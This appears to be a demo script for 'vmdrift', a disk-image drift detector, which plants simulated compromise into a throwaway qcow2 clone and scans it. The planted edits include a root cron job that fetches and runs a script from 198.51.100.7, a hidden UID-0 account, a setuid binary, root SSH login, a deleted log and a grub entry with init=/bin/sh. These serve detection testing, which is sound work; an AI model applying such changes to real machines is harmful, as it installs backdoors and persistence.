#!/usr/bin/env bash
# Install, build, and show vmdrift at work: a template disk image, its
# baseline, a drifted linked clone of it, and the drift report.
# Each step that opens an image starts a libguestfs appliance: without KVM
# that takes 15-25 s, and the very first one builds the appliance (~1 min).
set -euo pipefail
cd "$(dirname "$0")/.."
export LIBGUESTFS_BACKEND=${LIBGUESTFS_BACKEND:-direct}

bash scripts/setup.sh >/dev/null
cmake -S . -B build -DCMAKE_BUILD_TYPE=RelWithDebInfo -DVD_TESTS=ON >/dev/null
cmake --build build -j"$(nproc)" >/dev/null
vd=build/cli/vmdrift

demo=$(mktemp -d /tmp/vmdrift-demo.XXXXXX)
echo "== 1. a template disk image: Debian-like root on sda2, /boot on sda1 ($demo/template.img)"
bash tests/guest/mkimage.sh "$demo/template.img"
$vd inspect --image "$demo/template.img"

echo
echo "== 2. its baseline, under the example Debian policy (examples/policies/debian.yaml)"
$vd policy check examples/policies/debian.yaml
$vd baseline capture --image "$demo/template.img" -o "$demo/template.vdb" --policy examples/policies/debian.yaml

echo
echo "== 3. a linked clone (qcow2 on the template) that drifts while it runs"
qemu-img create -q -f qcow2 -b "$demo/template.img" -F raw "$demo/web-042.qcow2"
bash tests/guest/guestfish.sh -a "$demo/web-042.qcow2" -i <<'GF'
write /etc/ssh/sshd_config "Port 22\nPermitRootLogin yes\nPasswordAuthentication no\n"
write /etc/hostname "web-042\n"
write-append /etc/passwd "toor:x:0:0::/root:/bin/bash\n"
upload /bin/cat /usr/sbin/.hidden
chmod 04755 /usr/sbin/.hidden
write /etc/cron.d/update "* * * * * root curl -s http://198.51.100.7/x | sh\n"
chown 1000 1000 /bin/ls
rm /usr/bin/dir
ln-s /tmp/evil /usr/bin/dir
setxattr user.origin unknown 7 /etc/hosts
rm /var/log/boot.log
write /boot/grub.cfg "menuentry rescue { linux /vmlinuz init=/bin/sh }\n"
GF
sha256sum "$demo/template.img" "$demo/web-042.qcow2" >"$demo/before.sha256"

echo
echo "== 4. the drift report (read-only scan of the clone against the template's baseline)"
set +e
$vd scan --baseline "$demo/template.vdb" --image "$demo/web-042.qcow2" --policy examples/policies/debian.yaml \
    --report text --report json:"$demo/drift.json"
rc=$?
set -e
echo
echo "exit code $rc (0 no drift, 1 drift, 2 usage error, 3 runtime error)"
echo "ND-JSON events for a SIEM: $demo/drift.json ($(wc -l <"$demo/drift.json") lines)"
sha256sum --quiet -c "$demo/before.sha256" && echo "both images are byte-identical to before the scan"
